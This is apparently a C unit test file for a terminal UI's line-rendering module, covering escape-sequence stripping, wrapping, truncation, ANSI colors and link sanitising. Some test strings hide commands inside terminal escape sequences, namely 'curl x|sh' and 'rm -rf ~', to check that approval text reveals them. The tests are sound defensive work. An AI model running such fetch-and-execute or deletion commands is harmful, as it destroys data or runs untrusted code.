/* line: text becomes harmless; wrapping, cutting, colors of others, links. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "base/mem.h"
#include "base/strv.h"
#include "base/utf8.h"
#include "tui/screen/line.h"
#include "tui/screen/width.h"
#include "unit.h"

struct put_case {
    const char *text;
    const char *shown;
};

static const struct put_case put_cases[] = {
    {"plain", "plain"},
    {"", ""},
    {"a\nb", "a b"},
    {"a\r\nb", "a b"},
    {"a\rb", "ab"},
    {"a\tb", "a       b"},
    {"\t\tb", "                b"},
    {"12345678\tb", "12345678        b"},
    {"\u4e2d\tb", "\u4e2d      b"}, /* a column is a cell */
    {"\a\b\v\f\x7f!", "!"},
    {"\x1b[31mred\x1b[0m", "red"},
    {"\x1b[2J\x1b[H\x1b[?1049hx", "x"},
    {"\x1b]0;title\ax", "x"},
    {"\x1b]0;title\x1b\\x", "x"},
    {"\x1b]52;c;AAAA\x1b\\x", "x"},
    {"\x1bP1$r0m\x1b\\x", "x"},
    {"\x1b(0x", "x"},
    {"\x1b"
     "Mx",
     "x"},
    {"\x1b]0;never ends", "0;never ends"},
    {"x\x1b", "x"},
    {"x\x1b[", "x"},
    {"x\x1b[3\x01y", "xy"},
    {"\xc2\x9b"
     "31mx",
     "31mx"}, /* C1 */
    {"\xff\xc3", "\ufffd\ufffd"},
    {"a\u202eb", "a\ufffdb"},
    {"a\u2028b", "a b"},
    {"\U0001F468\u200d\U0001F469", "\U0001F468\u200d\U0001F469"},
};

static void harmless(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(put_cases); i++) {
        CLEANUP(lines_release) struct lines ls = LINES_INIT;

        lines_put(&ls, STYLE(ROLE_TEXT), str_of(put_cases[i].text));
        assert_int_equal(lines_column(&ls), width_of(str_of(put_cases[i].shown)));
        lines_end(&ls);
        if (!str_is(lines_at(&ls, 0).text, put_cases[i].shown))
            fail_msg("row %zu: '%.*s'", i, STR_ARG(lines_at(&ls, 0).text));
        if (lines_at(&ls, 0).span_count)
            fail_msg("row %zu: plain text needs no span", i);
    }
}

/* Text for approval hides nothing: a shell runs the bytes between ESC ] and BEL. */
static const struct {
    const char *text, *shown;
} all_cases[] = {
    {"echo \"hi\x1b]$(curl x|sh)\a\"", "echo \"hi^[]$(curl x|sh)^G\""},
    {"ls \x1b]x;rm -rf ~ ;\a", "ls ^[]x;rm -rf ~ ;^G"},
    {"a\x1b[31mb\r\x7f", "a^[[31mb^M^?"},
    {"./build\u200b.sh", "./build<U+200B>.sh"},
    {"a\u202eb\u200f", "a<U+202E>b<U+200F>"},
    {"a\u200db", "a<U+200D>b"},
    {"\U0001F468\u200d\U0001F469 \u2764\ufe0f", "\U0001F468\u200d\U0001F469 \u2764\ufe0f"},
    {"a\tb", "a       b"},
    {"a\nb", "a^Jb"},
    {"\xff", "\ufffd"},
};

static void shows_all(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(all_cases); i++) {
        CLEANUP(lines_release) struct lines ls = LINES_INIT;

        ls.shows_all = true;
        lines_put(&ls, STYLE(ROLE_TEXT), str_of(all_cases[i].text));
        lines_end(&ls);
        if (!str_is(lines_at(&ls, 0).text, all_cases[i].shown))
            fail_msg("row %zu: '%.*s'", i, STR_ARG(lines_at(&ls, 0).text));
    }
}

/* Whatever bytes come, by whichever door: nothing below a space gets in, and all of it is UTF-8. */
static void any_bytes_are_harmless(void **state)
{
    static const char pieces[] = "\x1b\x1b\x1b[]Pm;:8031\a\\\t\n\r\x9b\xc2\xe2\x80\xae\xff zA";
    uint32_t seed = 1;

    (void)state;
    for (int round = 0; round < 20000; round++) {
        CLEANUP(lines_release) struct lines ls = LINES_INIT;
        char text[48];
        struct str got;

        for (size_t i = 0; i < sizeof(text); i++) {
            seed = seed * 1664525u + 1013904223u;
            text[i] = pieces[(seed >> 16) % (sizeof(pieces) - 1)];
        }
        if (round % 2)
            lines_put_ansi(&ls, STYLE(ROLE_TEXT), str_make(text, sizeof(text)));
        else
            lines_put(&ls, STYLE(ROLE_TEXT), str_make(text, sizeof(text)));
        lines_end(&ls);
        got = lines_at(&ls, 0).text;
        if (!utf8_is_valid(got))
            fail_msg("round %d: not UTF-8", round);
        for (size_t at = 0; at < got.len;) {
            uint32_t code;

            at += utf8_decode(str_from(got, at), &code);
            if (code < 0x20 || (code >= 0x7f && code < 0xa0) || utf8_turns_text(code))
                fail_msg("round %d: U+%04X", round, code);
        }
    }
}

/* "role+flags/fg/bg@from" of each span */
static void spans_text(struct line l, struct buf *ret)
{
    for (size_t i = 0; i < l.span_count; i++) {
        const struct span *s = &l.spans[i];

        buf_addf(ret, "%s%u:%u+%u/%x/%x", i ? " " : "", s->from, s->style.role, s->style.flags,
                 s->style.fg, s->style.bg);
    }
}

static const struct put_case ansi_cases[] = {
    {"plain", ""},
    {"\x1b[31mred\x1b[0m no", "0:0+0/2000001/0 3:0+0/0/0"},
    {"a\x1b[1;4mb", "0:0+0/0/0 1:0+5/0/0"},
    {"\x1b[38;5;208mb", "0:0+0/20000d0/0"},
    {"\x1b[38;2;1;2;3mb", "0:0+0/1010203/0"},
    {"\x1b[38:2::1:2:3mb", "0:0+0/1010203/0"},
    {"\x1b[38:2:1:2:3;1mb", "0:0+1/1010203/0"},
    {"\x1b[48;5;1;38;5;2mb", "0:0+0/2000002/2000001"},
    {"\x1b[97;100mb", "0:0+0/200000f/2000008"},
    {"\x1b[1m\x1b[22mb", ""},
    {"\x1b[3m\x1b[23;9mb", "0:0+8/0/0"},
    {"\x1b[31m\x1b[39mb", ""},
    {"\x1b[31m\x1b[mb", ""},
    {"\x1b[4:3mb", "0:0+4/0/0"},
    {"\x1b[4m\x1b[4:0mb", ""},
    {"\x1b[58;5;1;1mb", "0:0+1/0/0"}, /* the color of an underline is left out, not misread */
    {"\x1b[38;5mb", ""},
    {"\x1b[38;5;999mb", ""},
    {"\x1b[?31mb", ""},
    {"\x1b[99999999999999mb", ""},
    {"\x1b[1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1;1mb", ""},
};

static void colors_of_others(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(ansi_cases); i++) {
        CLEANUP(lines_release) struct lines ls = LINES_INIT;
        CLEANUP(buf_release) struct buf got = BUF_INIT(1000);

        lines_put_ansi(&ls, STYLE(ROLE_TEXT), str_of(ansi_cases[i].text));
        lines_end(&ls);
        spans_text(lines_at(&ls, 0), &got);
        if (!str_is(buf_str(&got), ansi_cases[i].shown))
            fail_msg("row %zu: %s", i, buf_cstr(&got));
    }
}

static void spans_are_joined(void **state)
{
    CLEANUP(lines_release) struct lines ls = LINES_INIT;
    CLEANUP(buf_release) struct buf got = BUF_INIT(1000);

    (void)state;
    lines_puts(&ls, ROLE_TEXT, "one ");
    lines_puts(&ls, ROLE_BAD, "two ");
    lines_puts(&ls, ROLE_BAD, "three");
    lines_puts(&ls, ROLE_FAINT, "");
    lines_putf(&ls, STYLE(ROLE_TEXT), " %d", 4);
    lines_end(&ls);
    lines_puts(&ls, ROLE_GOOD, "next");
    lines_end(&ls);
    spans_text(lines_at(&ls, 0), &got);
    buf_addc(&got, '|');
    spans_text(lines_at(&ls, 1), &got);
    assert_string_equal(buf_cstr(&got), "0:0+0/0/0 4:6+0/0/0 13:0+0/0/0|0:4+0/0/0");
    assert_true(str_is(lines_at(&ls, 0).text, "one two three 4"));
    assert_true(line_eq(lines_at(&ls, 0), lines_at(&ls, 0)));
    assert_false(line_eq(lines_at(&ls, 0), lines_at(&ls, 1)));
    lines_clear(&ls);
    assert_int_equal(lines_count(&ls), 0);
    lines_putf(&ls, STYLE(ROLE_TEXT), "%0500d", 1);
    assert_int_equal(lines_column(&ls), 500);
}

struct wrap_case {
    const char *text;
    int cells;
    const char *first, *rest;
    bool anywhere;
    const char *rows;
};

static const struct wrap_case wrap_cases[] = {
    {"hello world", 20, "", "", false, "hello world|"},
    {"hello world", 11, "", "", false, "hello world|"},
    {"hello world", 10, "", "", false, "hello|world|"},
    {"hello world", 5, "", "", false, "hello|world|"},
    {"hello   world", 6, "", "", false, "hello|world|"},
    {"hello world", 3, "", "", false, "hel|lo|wor|ld|"},
    {"hello world", 8, "", "", true, "hello wo|rld|"},
    {"", 8, "* ", "  ", false, "* |"},
    {"one two three", 9, "* ", "  ", false, "* one two|  three|"},
    {"one two", 6, "> > > ", "> > > ", false, "one|two|"}, /* no room: given up */
    {"  indented text", 10, "", "", false, "  indented|text|"},
    {"   indented", 8, "", "", false, "   inden|ted|"},
    {"trailing   ", 8, "", "", false, "trailing|"},
    {"\u4e2d\u6587\u5b57", 4, "", "", false, "\u4e2d\u6587|\u5b57|"},
    {"\u4e2d\u6587\u5b57", 5, "", "", false, "\u4e2d\u6587|\u5b57|"},
    {"\u4e2d\u6587\u3002", 4, "", "", false, "\u4e2d|\u6587\u3002|"}, /* the full stop clings */
    {"ab\u4e2d\u6587 cd", 5, "", "", false, "ab\u4e2d|\u6587 cd|"},
    {"\u4e2d", 1, "", "", false, "\u4e2d|"}, /* never broken, never endless */
    {"ee\u0301e\u0301", 2, "", "", false, "ee\u0301|e\u0301|"},
    {"a b c d", 1, "", "", false, "a|b|c|d|"},
};

static struct line line_of(struct lines *ls, const char *text)
{
    lines_clear(ls);
    lines_puts(ls, ROLE_TEXT, text);
    lines_end(ls);
    return lines_at(ls, 0);
}

static void wrapped(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(wrap_cases); i++) {
        const struct wrap_case *c = &wrap_cases[i];
        CLEANUP(lines_release) struct lines text = LINES_INIT;
        CLEANUP(lines_release) struct lines first = LINES_INIT;
        CLEANUP(lines_release) struct lines rest = LINES_INIT;
        CLEANUP(lines_release) struct lines rows = LINES_INIT;
        CLEANUP(buf_release) struct buf got = BUF_INIT(1000);
        struct wrap how = {.cells = c->cells,
                           .first = line_of(&first, c->first),
                           .rest = line_of(&rest, c->rest),
                           .anywhere = c->anywhere};

        lines_wrap(&rows, line_of(&text, c->text), &how);
        lines_text(&rows, &got);
        for (size_t at = 0; at < got.len; at++) {
            if (got.ptr[at] == '\n')
                got.ptr[at] = '|';
        }
        if (!str_is(buf_str(&got), c->rows))
            fail_msg("row %zu: %s", i, buf_cstr(&got));
    }
}

static void styles_survive_wrapping(void **state)
{
    CLEANUP(lines_release) struct lines text = LINES_INIT;
    CLEANUP(lines_release) struct lines rows = LINES_INIT;
    CLEANUP(buf_release) struct buf got = BUF_INIT(1000);

    (void)state;
    lines_puts(&text, ROLE_TEXT, "one ");
    lines_puts(&text, ROLE_BAD, "two three");
    lines_puts(&text, ROLE_TEXT, " four");
    lines_end(&text);
    lines_wrap(&rows, lines_at(&text, 0), &(struct wrap){.cells = 8});
    assert_int_equal(lines_count(&rows), 3);
    for (size_t i = 0; i < 3; i++) {
        spans_text(lines_at(&rows, i), &got);
        buf_addc(&got, '|');
    }
    assert_string_equal(buf_cstr(&got), "0:0+0/0/0 4:6+0/0/0|0:6+0/0/0||");
}

struct cut_case {
    const char *text;
    int cells;
    bool ascii;
    const char *shown;
};

static const struct cut_case cut_cases[] = {
    {"hello", 5, false, "hello"},
    {"hello", 4, false, "hel\u2026"},
    {"hello", 1, false, "\u2026"},
    {"hello", 0, false, ""},
    {"\u4e2d\u6587", 4, false, "\u4e2d\u6587"},
    {"\u4e2d\u6587", 3, false, "\u4e2d\u2026"},
    {"\u4e2d\u6587", 2, false, "\u2026"},
    {"hello", 5, true, "hello"},
    {"hello", 4, true, "h..."},
    {"hello", 3, true, "..."},
    {"hello", 2, true, ".."},
    {"hello", 0, true, ""},
    {"\u4e2d\u6587", 3, true, "..."},
};

static void cut(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(cut_cases); i++) {
        CLEANUP(lines_release) struct lines from = LINES_INIT;
        CLEANUP(lines_release) struct lines to = LINES_INIT;

        lines_add_cut(&to, line_of(&from, cut_cases[i].text), cut_cases[i].cells,
                      cut_cases[i].ascii);
        if (!str_is(lines_at(&to, 0).text, cut_cases[i].shown))
            fail_msg("row %zu: '%.*s'", i, STR_ARG(lines_at(&to, 0).text));
    }
}

static const struct cut_case squeeze_cases[] = {
    {"short", 10, false, "short"},
    {"exactly10!", 10, false, "exactly10!"},
    {"anthropic/claude-sonnet-5", 19, false, "anthropic…-sonnet-5"},
    {"anthropic/claude-sonnet-5", 19, true, "anthropi...sonnet-5"},
    {"日本語日本語", 8, false, "日本…語"},
    {"abcdef", 2, false, "a…"},
    {"abcdef", 0, false, ""},
};

static void squeezed(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(squeeze_cases); i++) {
        CLEANUP(lines_release) struct lines from = LINES_INIT;
        CLEANUP(lines_release) struct lines to = LINES_INIT;

        lines_add_squeezed(&to, line_of(&from, squeeze_cases[i].text), squeeze_cases[i].cells,
                           squeeze_cases[i].ascii);
        if (!str_is(lines_at(&to, 0).text, squeeze_cases[i].shown))
            fail_msg("row %zu: '%.*s'", i, STR_ARG(lines_at(&to, 0).text));
    }
}

static const struct put_case link_cases[] = {
    {"https://example.org/a?b=c", "https://example.org/a?b=c"},
    {"HTTP://x", "HTTP://x"},
    {"mailto:a@b", "mailto:a@b"},
    {"file:///tmp/a b", "file:///tmp/a%20b"},
    {"https://x/\x1b]0;\a", "https://x/%1B]0;%07"},
    {"https://x/\u00e9", "https://x/%C3%A9"},
    {"javascript:alert(1)", NULL},
    {"ssh://x", NULL},
    {"/etc/passwd", NULL},
    {"https://", NULL},
    {"", NULL},
};

static void links(void **state)
{
    CLEANUP(lines_release) struct lines ls = LINES_INIT;
    CLEANUP(lines_release) struct lines other = LINES_INIT;
    CLEANUP(buf_release) struct buf longest = BUF_INIT(3000);
    struct style style = STYLE(ROLE_LINK);
    struct line l;

    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(link_cases); i++) {
        uint16_t link = lines_link(&ls, str_of(link_cases[i].text));
        const char *target = link ? ls.links->ptr[link - 1] : NULL;

        if (!link != !link_cases[i].shown || (link && strcmp(target, link_cases[i].shown) != 0))
            fail_msg("row %zu: %s", i, target ? target : "none");
    }
    buf_adds(&longest, "https://");
    while (longest.len < 2500)
        buf_addc(&longest, 'a');
    assert_int_equal(lines_link(&ls, buf_str(&longest)), 0);

    /* Into another list the target goes along. */
    style.link = lines_link(&ls, STR("https://two"));
    lines_put(&ls, style, STR("here"));
    lines_end(&ls);
    lines_add(&other, lines_at(&ls, 0));
    l = lines_at(&other, 0);
    assert_true(str_is(line_link(l, l.spans[0].style), "https://two"));
    assert_true(line_eq(l, lines_at(&ls, 0)));

    lines_clear(&other);
    lines_put_ansi(&other, STYLE(ROLE_TEXT),
                   STR("\x1b]8;id=1;https://three\x1b\\x\x1b]8;;\x1b\\y\x1b]8;;ssh://z\az"));
    lines_end(&other);
    l = lines_at(&other, 0);
    assert_true(str_is(l.text, "xyz"));
    assert_int_equal(l.span_count, 2);
    assert_true(str_is(line_link(l, l.spans[0].style), "https://three"));
    assert_int_equal(l.spans[1].style.link, 0);
}

/* A list that is full leaves out and stays whole. */
static void full(void **state)
{
    struct lines ls = {.text = BUF_INIT(10)};
    CLEANUP(buf_release) struct buf got = BUF_INIT(100);

    (void)state;
    lines_puts(&ls, ROLE_TEXT, "12345678");
    lines_puts(&ls, ROLE_BAD, "too much");
    lines_end(&ls);
    lines_puts(&ls, ROLE_BAD, "ab");
    lines_end(&ls);
    lines_puts(&ls, ROLE_BAD, "c");
    lines_end(&ls);
    lines_text(&ls, &got);
    assert_string_equal(buf_cstr(&got), "12345678\n\n\n");
    assert_int_equal(lines_at(&ls, 0).span_count, 0);
    assert_int_equal(lines_at(&ls, 2).span_count, 0);
    lines_release(&ls);
}

/* 64 KB of tabs are not the square of it. */
static void many_tabs(void **state)
{
    CLEANUP(lines_release) struct lines ls = LINES_INIT;
    size_t n = (size_t)64 << 10;
    CLEANUP(mem_freep) char *tabs = mem_alloc(n);

    (void)state;
    memset(tabs, '\t', n);
    lines_put(&ls, STYLE(ROLE_TEXT), str_make(tabs, n));
    assert_int_equal(lines_column(&ls), n * 8);
}

/* All lines at once give the same as one by one, with links and after a line that is begun. */
static void adds_all(void **state)
{
    for (int variant = 0; variant < 4; variant++) {
        CLEANUP(lines_release) struct lines from = LINES_INIT;
        CLEANUP(lines_release) struct lines one = LINES_INIT;
        CLEANUP(lines_release) struct lines all = LINES_INIT;
        struct style link = STYLE(ROLE_LINK);

        (void)state;
        lines_puts(&from, ROLE_TEXT, "plain ");
        lines_puts(&from, ROLE_CODE, "code");
        lines_end(&from);
        lines_end(&from);
        link.link = variant & 1 ? lines_link(&from, STR("https://example.org/")) : 0;
        lines_put(&from, link, STR("a link"));
        lines_end(&from);
        lines_puts(&from, ROLE_BAD, "not finished");
        for (int i = 0; i < 2; i++) {
            struct lines *to = i ? &all : &one;

            lines_puts(to, ROLE_ACCENT, "before");
            if (variant & 2)
                lines_end(to);
            for (size_t n = 0; n < lines_count(&from) && !i; n++)
                lines_add(to, lines_at(&from, n));
            if (i)
                lines_add_all(to, &from);
        }
        assert_int_equal(lines_count(&all), lines_count(&one));
        for (size_t i = 0; i < lines_count(&one); i++)
            assert_true(line_eq(lines_at(&all, i), lines_at(&one, i)));
    }
}

UNIT_TEST(line)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(harmless),
        cmocka_unit_test(shows_all),
        cmocka_unit_test(adds_all),
        cmocka_unit_test(any_bytes_are_harmless),
        cmocka_unit_test(colors_of_others),
        cmocka_unit_test(spans_are_joined),
        cmocka_unit_test(wrapped),
        cmocka_unit_test(styles_survive_wrapping),
        cmocka_unit_test(cut),
        cmocka_unit_test(squeezed),
        cmocka_unit_test(links),
        cmocka_unit_test(full),
        cmocka_unit_test(many_tabs),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
